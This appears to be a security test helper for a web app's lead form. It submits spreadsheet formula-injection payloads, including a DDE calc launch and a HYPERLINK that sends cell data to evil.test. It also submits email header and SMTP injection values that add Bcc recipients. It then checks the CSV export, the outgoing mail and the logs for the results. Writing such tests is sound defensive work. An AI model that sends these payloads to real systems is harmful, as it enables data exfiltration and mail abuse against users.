import { execFileSync } from 'node:child_process';
import { parse } from 'csv-parse/sync';
import { briefly, SLUG, type SecretGround } from './secret-ground.ts';

/** What a spreadsheet would run, and what would end a line or a cell. */
export const FORMULAS = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '=HYPERLINK("http://evil.test?"&A1,"x")',
]
  .concat([`=cmd|' /C calc'!A0`, '"a","b"', 'a\nb', '＝1', '＋1', '+61412345678'])
  .map((text, at) => [`formula${at}@example.com`, text] as const);

export async function sendFormulas(ground: SecretGround): Promise<void> {
  for (const [email, text] of FORMULAS) {
    const lead = {
      name: 'Ann',
      last_name: 'Lee',
      email,
      phone: '0412345678',
      category: 'general-enquiry',
    };
    await post(ground, { ...lead, message: text, linked_query_params: text, utm_source: text, url: text });
  }
}

/** Cells of the export that a spreadsheet would run, and messages that are not there as they were sent. */
export function faultsOfExport({ environment }: SecretGround): string[] {
  const table = execFileSync(process.execPath, ['src/cli/forecourt.ts', 'leads', SLUG, '--csv'], {
    encoding: 'utf8',
    env: { ...process.env, ...environment },
  });
  const faults = table.startsWith('\ufeff') ? [] : ['no byte order mark'];
  const rows = parse(table, { bom: true, columns: true }) as Record<string, string>[];
  for (const row of rows)
    for (const [column, cell] of Object.entries(row))
      if (/^\s*[=+\-@＝＋－＠]|^[\t\r\n]/.test(cell) && !/^\+\d{7,15}$/.test(cell))
        faults.push(`${column}: ${cell}`);
  for (const [email, text] of FORMULAS) {
    const row = rows.find((each) => each['email'] === email);
    if (row?.['message']?.replace(/^'/, '').trim() !== text.trim()) faults.push(`lost: ${text}`);
  }
  return faults;
}

/** Names and addresses that want to be headers of their own, or a second recipient. */
const MAIL_SENDERS = [
  { name: 'Ann\r\nBcc: x@evil.test' },
  { email: 'a@b.co\r\nBcc:x@evil.test' },
  { email: '"a@evil.test"@b.co' },
  { email: 'a@b.co,c@evil.test' },
  { email: '=?utf-8?q?=0d=0aBcc:?=@b.co' },
  { email: `${'((((a'.repeat(2000)}@b.co` },
  { category: 'general-enquiry\r\nBcc: x@evil.test' },
  { message: 'x\r\n.\r\nMAIL FROM:<x@evil.test>\r\nBcc: x@evil.test' },
];
const SENDER = {
  name: 'Ann',
  last_name: 'Lee',
  email: 'ann@example.com',
  phone: '0412345678',
  category: 'general-enquiry',
};
const DESK = 'secret-canary-desk@keeps.example';

/** Mails with a recipient, a sender or a header that nobody of us wrote. */
export async function faultsOfMails(ground: SecretGround): Promise<string[]> {
  let taken = ground.mails.length;
  const faults: string[] = [];
  for (const [at, change] of MAIL_SENDERS.entries()) {
    const begun = performance.now();
    const status = await post(ground, { message: `mail ${at}`, ...SENDER, ...change });
    if (status === 201) taken += 1;
    else if (status !== 422 && status !== 400)
      faults.push(`${status} to ${JSON.stringify(change).slice(0, 60)}`);
    if (performance.now() - begun > 2000) faults.push(`slow: ${JSON.stringify(change).slice(0, 60)}`);
  }
  for (let tries = 0; tries < 100 && ground.mails.length < taken; tries += 1) await briefly();
  for (const { to, from, raw } of ground.mails) {
    const [head = ''] = raw.split('\r\n\r\n');
    if (
      to.length !== 1 ||
      (to[0] !== DESK && !/^(?:ann|pii-marker|formula\d+)@example\.com$/.test(to[0] ?? ''))
    )
      faults.push(`sent to ${to.join()}`);
    if (from !== 'secret-canary-sender@keeps.example') faults.push(`sent from ${from}`);
    if (/^(?:bcc|cc):|evil\.test/im.test(head))
      faults.push(`a header: ${/.*(?:bcc|cc:|evil).*/i.exec(head)?.[0]}`);
  }
  return ground.mails.length === 0 ? [...faults, 'no mail was sent'] : faults;
}

/** Lines of the log that are none, or are somebody else's. */
export function faultsOfLog(log: string): string[] {
  return log
    .trim()
    .split('\n')
    .flatMap((line) => {
      if (line.length > 8192) return [`${line.length} characters`];
      try {
        const { user, msg } = JSON.parse(line) as Record<string, unknown>;
        return user === 'root' || msg === 'login ok' ? [`forged: ${line.slice(0, 80)}`] : [];
      } catch {
        return [`no JSON: ${line.slice(0, 80)}`];
      }
    });
}

async function post(ground: SecretGround, lead: object): Promise<number> {
  const headers = { 'content-type': 'application/json' };
  return (await ground.ask('/api/leads', { method: 'POST', headers, body: JSON.stringify({ lead }) })).status;
}
